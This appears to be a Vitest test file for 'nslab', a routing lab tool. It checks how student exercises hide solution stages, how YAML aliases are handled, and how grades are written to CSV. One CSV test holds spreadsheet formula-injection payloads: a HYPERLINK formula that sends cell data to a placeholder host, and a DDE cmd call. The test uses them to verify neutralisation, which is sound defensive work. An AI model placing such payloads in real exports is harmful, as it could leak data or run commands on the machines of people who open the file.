// Exercises without root: the students' file, the stage check grades, the CSV
// of a batch grading, and the table-name files nodes get.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { LabFileError } from '../../src/errors.js';
import { checkedStage, exerciseLeaks, exerciseOf } from '../../src/lab/exercise.js';
import { loadLabText } from '../../src/lab/load.js';
import { checkLab, loadLab } from '../../src/lab/resolve.js';
import { tableNameFiles } from '../../src/plan/table-names.js';
import { csvField, csvReport, CSV_COLUMNS, FORMULA_START, scoreOf } from '../../src/report/csv.js';
import type { LabRun } from '../../src/run/results.js';

const LAB = 'labs/dual-nic-reply-path.yaml';
const FIX = [
  '192.168.1.0/24 dev eth1 src 192.168.1.220 table gateway1',
  'default via 192.168.1.254 table gateway1',
  'from 192.168.1.220 table gateway1',
];

describe("nslab exercise: the students' file", () => {
  const original = readFileSync(LAB, 'utf8');
  const ex = exerciseOf(original, 'dual-nic-reply-path.yaml');
  it('hides the fix of the bundled lab: no route or rule of the solution stage, no description or comment of it', () => {
    for (const line of FIX) {
      expect(original).toContain(line);
      expect(ex.text).not.toContain(line);
    }
    expect(ex.text).not.toContain('rt_tables "201 gateway1"'); // the solution stage's description
    expect(ex.text).not.toContain('the students find it'); // a comment inside the solution stage
    expect(ex.solutions).toEqual(['with a routing table for eth1']);
  });
  it("keeps everything else: stages, tests and hints, the table names, the other stages' apply", () => {
    const a = parse(original);
    const b = parse(ex.text);
    expect(b.nodes).toEqual(a.nodes);
    expect(b.links).toEqual(a.links);
    expect(b.stages.map((s: any) => s.name)).toEqual(a.stages.map((s: any) => s.name));
    expect(b.stages.map((s: any) => s.tests)).toEqual(a.stages.map((s: any) => s.tests));
    expect(b.stages[2]).toMatchObject({ solution: true, apply: { server: { tables: { gateway1: 201 } } } });
    expect(Object.keys(b.stages[2].apply.server)).toEqual(['tables']);
    expect(b.stages[3].apply).toEqual(a.stages[3].apply);
    expect(b.stages[2].tests.filter((t: any) => t.hint)).toHaveLength(2);
  });
  it('is a valid lab, marked as made from its source', () => {
    expect(checkLab(loadLabText(ex.text, 'student.yaml')).problems).toEqual([]);
    expect(ex.text.split('\n')[0]).toMatch(/^# nslab exercise made from dual-nic-reply-path\.yaml/);
  });
  it("drops a solution stage's apply of a node entirely when it declares no tables", () => {
    const text =
      'name: x\nnodes:\n  a: { interfaces: { lo: 10.9.9.9/32 } }\nstages:\n  - name: fix\n    solution: true\n    apply:\n      a:\n        # the answer\n        routes: [10.1.0.0/16 dev lo]\n    tests:\n      - { name: t, route: { node: a, to: 10.1.2.3 }, expect: { dev: lo }, hint: look at lo }\n';
    const out = exerciseOf(text, 'x.yaml').text;
    expect(out).not.toContain('10.1.0.0/16');
    expect(out).not.toContain('the answer');
    expect(parse(out).stages[0]).toEqual({
      name: 'fix',
      solution: true,
      tests: [{ name: 't', route: { node: 'a', to: '10.1.2.3' }, expect: { dev: 'lo' }, hint: 'look at lo' }],
    });
  });
});

describe('the stage check grades by default', () => {
  const model = loadLab(LAB);
  const [s1, s2, s3, s4] = model.stages.map((s) => s.name);
  it('in an exercise: the solution stage, unless one at or after it was applied', () => {
    expect(checkedStage(model, [])).toBe(s3);
    expect(checkedStage(model, [s1!, s2!])).toBe(s3);
    expect(checkedStage(model, [s1!, s2!, s3!])).toBe(s3);
    expect(checkedStage(model, [s1!, s2!, s3!, s4!])).toBe(s4);
  });
  it('without a solution stage: the last applied, else the first', () => {
    const plain = { stages: model.stages.map((s) => ({ ...s, solution: false })) };
    expect(checkedStage(plain, [])).toBe(s1);
    expect(checkedStage(plain, [s1!, s2!])).toBe(s2);
  });
  it("a test's hint is in the model", () => {
    expect(model.stages[2]!.tests.map((t) => t.hint === undefined)).toEqual([false, true, false]);
  });
});

describe('batch grading as CSV', () => {
  const t = (instance: string, name: string, status: 'passed' | 'failed', extra: object = {}) => ({
    lab: 'l',
    file: 'l.yaml',
    stage: 'fix it',
    name,
    probe: 'ping',
    status,
    durationMs: 1,
    checks: [],
    facts: {},
    artifacts: [],
    at: 'l.yaml:1:1',
    ...extra,
  });
  const runs: LabRun[] = [
    { lab: 'l', file: 'l.yaml', instance: 'l.ws1', durationMs: 1, tests: [t('l.ws1', 'a, "quoted"', 'passed')] },
    {
      lab: 'l',
      file: 'l.yaml',
      instance: 'l',
      durationMs: 1,
      tests: [
        t('l', 'a, "quoted"', 'failed', {
          hint: 'two\nlines',
          checks: [{ name: 'replies', ok: false, expected: '3', observed: '0' }],
        }),
      ],
    },
  ];
  it('one line per instance and test, the documented columns, RFC 4180 quoting', () => {
    expect(csvReport(runs)).toBe(
      `${CSV_COLUMNS.join(',')}\r\n` +
        'l.ws1,ws1,l,fix it,"a, ""quoted""",passed,,\r\n' +
        'l,,l,fix it,"a, ""quoted""",failed,"two\nlines","replies: expected 3, observed 0"\r\n',
    );
  });
  it("graded across users (root over students' rootless labs): a user column first; without users, none", () => {
    const withUsers = csvReport(runs.map((r, i) => ({ ...r, user: i ? 'root' : '=alice' })));
    expect(withUsers).toBe(
      `user,${CSV_COLUMNS.join(',')}\r\n` +
        `'=alice,l.ws1,ws1,l,fix it,"a, ""quoted""",passed,,\r\n` +
        'root,l,,l,fix it,"a, ""quoted""",failed,"two\nlines","replies: expected 3, observed 0"\r\n',
    );
    expect(csvReport(runs).split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
  });
  it("a cell a spreadsheet would run as a formula gets a leading ' (OWASP), then RFC 4180 quoting: each dangerous first character", () => {
    for (const [cell, written] of [
      ['=HYPERLINK("http://x.example/?"&A1,"grade")', `"'=HYPERLINK(""http://x.example/?""&A1,""grade"")"`],
      ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
      ['-2+3', "'-2+3"],
      ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
    ] as const) {
      expect(csvField(cell), JSON.stringify(cell)).toBe(written);
      expect(FORMULA_START.test(cell)).toBe(true);
    }
  });
  it('ordinary cells are written as they are (a formula character later in the text is no formula); a ; is quoted like a ,', () => {
    const ordinary = [
      'ws1',
      'passed',
      '',
      'a-b',
      'x=1',
      'mail@example.org',
      'replies leave through eth1',
      '192.168.1.220',
      ' =1',
      '\u00a0=1',
      "'=already",
    ];
    for (const cell of ordinary) {
      expect(csvField(cell), JSON.stringify(cell)).toBe(cell);
      expect(FORMULA_START.test(cell)).toBe(false);
    }
    expect(csvField('a;=1+1')).toBe('"a;=1+1"');
    expect(csvField('a,b')).toBe('"a,b"');
  });
  it('in the report: test names, hints, stages and reasons are neutralised, the rest unchanged', () => {
    const hostile: LabRun[] = [
      {
        lab: 'l',
        file: 'l.yaml',
        instance: 'l.ws1',
        durationMs: 1,
        tests: [
          t('l.ws1', '=1+1', 'failed', {
            stage: '@stage',
            hint: '-hint',
            checks: [{ name: '+x', ok: false, expected: '1', observed: '0' }],
          }),
        ],
      },
    ];
    expect(csvReport(hostile).split('\r\n')[1]).toBe(
      `l.ws1,ws1,l,'@stage,'=1+1,failed,'-hint,"'+x: expected 1, observed 0"`,
    );
  });
  it('a score counts the tests that ran', () => {
    expect(scoreOf(runs[0]!)).toEqual({ passed: 1, total: 1 });
    expect(scoreOf({ ...runs[1]!, tests: [...runs[1]!.tests, { ...runs[0]!.tests[0]!, status: 'skipped' }] })).toEqual({
      passed: 0,
      total: 1,
    });
  });
});

describe('table names inside nodes', () => {
  it("a node with tables gets an rt_tables with iproute2's own names and the lab's; others get none", () => {
    const files = tableNameFiles(loadLab(LAB), 'dual-nic-reply-path.k1');
    expect(files.map((f) => [f.node, f.ns])).toEqual([['server', 'nslab-dual-nic-reply-path.k1.server']]);
    const lines = files[0]!.text.split('\n').filter((l) => l && !l.startsWith('#'));
    expect(lines).toEqual(['255\tlocal', '254\tmain', '253\tdefault', '0\tunspec', '201\tgateway1']);
  });
});

// YAML puts one value in two places (anchors and aliases; YAML 1.1's merge key `<<`): none of
// them may hand the students the fix, bring the solution mark in unseen, or crash the writer
describe('nslab exercise and YAML anchors, aliases and merge keys', () => {
  const FIX = '10.1.0.0/16 dev lo';
  const BASE = `name: x
nodes:
  a: { interfaces: { lo: 10.9.9.9/32 } }
stages:
`;
  const TEST = `    tests:
      - { name: t, route: { node: a, to: 10.1.2.3 }, expect: { dev: lo } }
`;
  const V11 = '%YAML 1.1\n---\n';
  /** The problems exerciseOf refuses a lab with, as the CLI prints them (undefined when it is accepted). */
  const refused = (text: string): string | undefined => {
    try {
      exerciseOf(text, 'x.yaml');
      return undefined;
    } catch (e) {
      expect(e, (e as Error).stack).toBeInstanceOf(LabFileError);
      return (e as LabFileError).message;
    }
  };
  const studentsOf = (text: string) => {
    const ex = exerciseOf(text, 'x.yaml');
    return { ...ex, data: parse(ex.text, { merge: true }) };
  };
  const WRITE_OUT =
    '    hint: write solution: true, the apply and the description in the solution stage itself (no <<, no alias): ' +
    'nslab exercise hides what the stage holds';
  const ALIAS_HINT =
    '    hint: write those settings out where they are used, or anchor them outside the solution stage: ' +
    'through the alias the students would get the fix';

  it('a merge key bringing the apply into the solution stage is refused at the <<, naming the stage; written in place it is hidden', () => {
    const merged = `${V11}${BASE}  - name: fix
    solution: true
    <<: { apply: { a: { routes: [${FIX}] } } }
${TEST}`;
    // the loader merges it
    expect(checkLab(loadLabText(merged, 'x.yaml')).model?.stages[0]!.apply.get('a')?.routes[0]!.text).toBe(FIX);
    expect(refused(merged)).toBe(`x.yaml:9:5: solution stage 'fix' takes keys from a merge key (<<)\n${WRITE_OUT}`);
    const inPlace = studentsOf(
      merged.replace(`<<: { apply: { a: { routes: [${FIX}] } } }`, `apply: { a: { routes: [${FIX}] } }`),
    );
    expect(inPlace.text).not.toContain(FIX);
    expect(inPlace.solutions).toEqual(['fix']);
  });

  it('solution: true arriving through a merge is refused (the stage would be handed out whole); written in place it is hidden', () => {
    const merged = `${V11}${BASE}  - name: fix
    <<: { solution: true }
    apply: { a: { routes: [${FIX}] } }
${TEST}`;
    expect(refused(merged)).toBe(
      `x.yaml:8:5: stage 'fix' is marked as the solution through a merge key (<<)\n${WRITE_OUT}`,
    );
    const inPlace = studentsOf(merged.replace('<<: { solution: true }', 'solution: true'));
    expect(inPlace.text).not.toContain(FIX);
    expect(inPlace.data.stages[0].solution).toBe(true);
  });

  it('stages that come from a merge at the top are refused when a solution is among them', () => {
    const merged = `${V11}name: x
nodes:
  a: { interfaces: { lo: 10.9.9.9/32 } }
<<:
  stages:
    - name: fix
      solution: true
      apply: { a: { routes: [${FIX}] } }
`;
    expect(refused(merged)).toBe(
      'x.yaml:6:1: the stages list comes from a merge key (<<)\n' +
        '    hint: write stages: out in the lab file itself',
    );
  });

  it('an anchor inside the solution\'s apply used by a later stage is a located error (not "internal error: Unresolved alias")', () => {
    const text = `${BASE}  - name: fix
    solution: true
    apply: { a: &fix { routes: [${FIX}] } }
${TEST}  - name: later
    apply: { a: *fix }
`;
    expect(refused(text)).toBe(
      "x.yaml:11:17: alias *fix refers to the apply of solution stage 'fix' (the value anchored &fix, at line 7), " +
        `which the exercise leaves out\n${ALIAS_HINT}`,
    );
    // the twin: the later stage writes it out (its own apply is the students' to see)
    expect(studentsOf(text.replace('*fix', `{ routes: [${FIX}] }`)).data.stages[1].apply).toEqual({
      a: { routes: [FIX] },
    });
  });

  it('aliases to anything hidden are refused: a route, the whole apply, the description, the solution stage itself', () => {
    const route = `${BASE}  - name: fix
    solution: true
    apply: { a: { routes: [&r ${FIX}] } }
    tests:
      - { name: t, route: { node: a, to: 10.1.2.3 }, expect: { dev: lo }, hint: *r }
`;
    const head = (text: string) => refused(text)?.split(', which the exercise leaves out\n')[0];
    expect(head(route)).toBe(
      "x.yaml:9:81: alias *r refers to the apply of solution stage 'fix' (the value anchored &r, at line 7)",
    );
    const whole = `${BASE}  - name: fix
    solution: true
    apply: &fix { a: { routes: [${FIX}] } }
${TEST}  - name: later
    apply: *fix
`;
    expect(head(whole)).toBe(
      "x.yaml:11:12: alias *fix refers to the apply of solution stage 'fix' (the value anchored &fix, at line 7)",
    );
    const description = `${BASE}  - name: fix
    solution: true
    description: &d the fix is a route to 10.1/16
${TEST}  - name: later
    description: *d
`;
    expect(head(description)).toBe(
      "x.yaml:11:18: alias *d refers to the description of solution stage 'fix' " +
        '(the value anchored &d, at line 7)',
    );
    const stage = `${V11}${BASE}  - &s
    name: fix
    solution: true
    apply: { a: { routes: [${FIX}] } }
${TEST}  - <<: *s
    name: later
    solution: false
`;
    expect(head(stage)).toBe(
      "x.yaml:13:9: alias *s refers to solution stage 'fix', its apply included (the value anchored &s, at line 8)",
    );
  });

  it('aliases that hide nothing work: to the kept tables and tests, from the solution into earlier stages, merges outside solutions', () => {
    const text = `${V11}name: x
nodes:
  a: { interfaces: { lo: 10.9.9.9/32 }, sysctl: &sys { net.ipv4.conf.all.rp_filter: "0" } }
  b: { <<: { sysctl: *sys }, interfaces: { lo: 10.9.9.8/32 } }
stages:
  - name: first
    apply: { a: &base { routes: [10.2.0.0/16 dev lo] } }
  - name: fix
    solution: yes
    apply:
      a: { <<: *base, tables: &t { t1: 201 }, rules: [from 10.9.9.9 table t1] }
    tests: &tests
      - { name: t, route: { node: a, to: 10.1.2.3 }, expect: { dev: lo } }
  - name: later
    apply: { b: { tables: *t } }
    tests: *tests
`;
    const ex = studentsOf(text);
    expect(ex.text).toMatch(/^# nslab exercise made from x\.yaml[^\n]*\n\n%YAML 1\.1\n---\n/);
    expect(ex.text).not.toContain('from 10.9.9.9 table t1');
    const test = expect.objectContaining({ name: 't' });
    expect(ex.data.stages[1]).toEqual({
      name: 'fix',
      solution: true,
      apply: { a: { tables: { t1: 201 } } },
      tests: [test],
    });
    expect(ex.data.stages[2]).toEqual({ name: 'later', apply: { b: { tables: { t1: 201 } } }, tests: [test] });
    expect(ex.data.nodes.b).toEqual({
      interfaces: { lo: '10.9.9.8/32' },
      sysctl: { 'net.ipv4.conf.all.rp_filter': '0' },
    });
  });

  it('a key written as an alias is read as the key it stands for: an aliased apply: is hidden too', () => {
    const text = `${BASE}  - name: first
    &k apply: { a: { routes: [10.2.0.0/16 dev lo] } }
  - name: fix
    solution: true
    *k : { a: { routes: [${FIX}] } }
${TEST}`;
    expect(checkLab(loadLabText(text, 'x.yaml')).model?.stages[1]!.apply.get('a')?.routes[0]!.text).toBe(FIX);
    const ex = studentsOf(text);
    expect(ex.text).not.toContain(FIX);
    expect(ex.text).toContain('10.2.0.0/16 dev lo');
  });

  it("every solution stage is named: in the result and in the file's first line", () => {
    const text = `${BASE}  - name: fix one
    solution: true
    apply: { a: { routes: [${FIX}] } }
${TEST}  - name: fix two
    solution: true
    apply: { a: { routes: [10.3.0.0/16 dev lo] } }
`;
    const ex = studentsOf(text);
    expect(ex.solutions).toEqual(['fix one', 'fix two']);
    expect(ex.text.split('\n')[0]).toBe(
      "# nslab exercise made from x.yaml: the apply of 'fix one', 'fix two' (the solution) is left out",
    );
    expect(ex.text).not.toMatch(/10\.[13]\.0\.0/);
  });

  it("a problem of the students' file is shown where the same thing is in the instructor's file (the students' is not written)", () => {
    const text = `${BASE}  - name: fix
    solution: true
    # the routing table the fix adds
    apply:
      a:
        tables: { t1: 201 }
        routes: [10.1.0.0/16 dev lo table t1]
    tests:
      - { name: t, route: { node: a, to: 10.1.2.3 }, expect: { table: t1 } }
  - name: later
    apply: { a: { tables: { t2: 202 } } }
    tests:
      - { name: u, route: { node: a, to: 10.1.2.3 }, expect: { table: t2 } }
`;
    expect(studentsOf(text).text).not.toContain('routes: [10.1.0.0/16');
    // the same lab, the table declared only through what is hidden: a merge inside the apply
    const merged = `${V11}${text.replace('tables: { t1: 201 }', '<<: { tables: { t1: 201 } }')}`;
    expect(refused(merged)).toBe(
      "x.yaml:15:71: in the exercise: table 't1' is not declared in node 'a'\n" +
        '    hint: declare it under tables, or use a number; known: main, local, default; ' +
        "declare what the tests need outside the solution stage's apply",
    );
    expect(merged.split('\n')[14]!.slice(70)).toBe('t1 } }');
  });
});

describe("the students' file is checked before anyone gets it (exerciseLeaks)", () => {
  const original = loadLab(LAB);
  const students = (text: string) => checkLab(loadLabText(text, 'student.yaml')).model!;
  const solution = 'with a routing table for eth1';
  const exercise = () => exerciseOf(readFileSync(LAB, 'utf8'), 'l.yaml').text;
  it('a sound exercise leaks nothing', () => {
    expect(exerciseLeaks(original, students(exercise()), [solution])).toEqual([]);
  });
  it("the lab itself as the students' file: the hidden stage still applies the fix, named", () => {
    expect(exerciseLeaks(original, students(readFileSync(LAB, 'utf8')), [solution])).toEqual([
      `stage '${solution}' still applies settings to node 'server'`,
    ]);
  });
  it('a solution mark lost, a hidden stage not named, the fix moved to another stage: each said', () => {
    const ex = exercise();
    expect(exerciseLeaks(original, students(ex.replace('solution: true', 'solution: false')), [solution])).toEqual([
      `its solution stages are none, the stages hidden '${solution}'`,
    ]);
    expect(exerciseLeaks(original, students(ex), [])).toEqual([
      `the lab's solution stages are '${solution}', the stages hidden none`,
      `its solution stages are '${solution}', the stages hidden none`,
      `stage '${solution}' applies other settings than in the lab file`,
    ]);
    // the last stage also applying the fix's rule
    const last = /server: \{ down: \[ eth0 \] \}(?![^]*server: \{ down)/;
    const moved = ex.replace(last, 'server: { down: [eth0], rules: [from 192.168.1.220 table gateway1] }');
    expect(moved).not.toBe(ex);
    expect(exerciseLeaks(original, students(moved), [solution])).toEqual([
      "stage 'eth0 down, with policy routing' applies other settings than in the lab file",
    ]);
  });
});
